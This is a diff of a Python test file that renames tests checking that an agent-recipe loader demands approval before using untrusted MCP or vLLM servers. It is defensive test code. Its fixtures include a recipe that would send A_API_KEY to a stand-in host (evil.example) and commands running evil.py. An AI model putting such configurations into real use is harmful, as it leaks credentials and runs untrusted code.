@@ -31,7 +31,7 @@ team:
         ("{mcp: 'https://evil.example/mcp', key: A_API_KEY}", "send A_API_KEY to the MCP server"),
     ],
 )
-def test_a_server_of_tools_is_asked_about(project: Path, evil: Path, tool: str, asked: str) -> None:
+def test_tool_server_needs_approval(project: Path, evil: Path, tool: str, asked: str) -> None:
     (evil / "recipe.yaml").write_text(SERVER.format(tool=tool))
     with pytest.raises(Untrusted, match=asked.replace("(", r"\(")):
         load_recipe(str(evil / "recipe.yaml"))
@@ -39,7 +39,7 @@ def test_a_server_of_tools_is_asked_about(project: Path, evil: Path, tool: str, 
     load_recipe(str(evil / "recipe.yaml"))
 
 
-def test_a_yes_to_a_server_holds_for_exactly_its_file(project: Path, evil: Path) -> None:
+def test_approval_of_a_server_covers_only_its_exact_file(project: Path, evil: Path) -> None:
     (evil / "recipe.yaml").write_text(SERVER.format(tool="{mcp: [python, evil.py]}"))
     load_recipe(str(evil / "recipe.yaml"), trust=True)
     load_recipe(str(evil / "recipe.yaml"))
@@ -49,9 +49,7 @@ def test_a_yes_to_a_server_holds_for_exactly_its_file(project: Path, evil: Path)
         load_recipe(str(evil / "recipe.yaml"))
 
 
-def test_a_server_of_ones_own_is_asked_about_where_its_file_is_not(
-    project: Path, evil: Path
-) -> None:
+def test_own_server_with_a_foreign_file_needs_approval(project: Path, evil: Path) -> None:
     (project / "server.py").write_text("")
     (project / "own.yaml").write_text(
         "agents:\n  a: {prompt: p, tools: [{mcp: [python, server.py]}]}\n"
@@ -66,9 +64,7 @@ def test_a_server_of_ones_own_is_asked_about_where_its_file_is_not(
     load_recipe("own.yaml", settings=[typed])
 
 
-def test_the_command_of_a_vllm_server_is_asked_about(
-    project: Path, evil: Path, tmp_path: Path
-) -> None:
+def test_command_of_a_vllm_server_needs_approval(project: Path, evil: Path, tmp_path: Path) -> None:
     file = evil / "recipe.yaml"
     command = f"[sh, {evil / 'evil.py'}]"
     text = SERVER.replace("model: echo", "model: {{engine: vllm, name: m, server_command: {tool}}}")
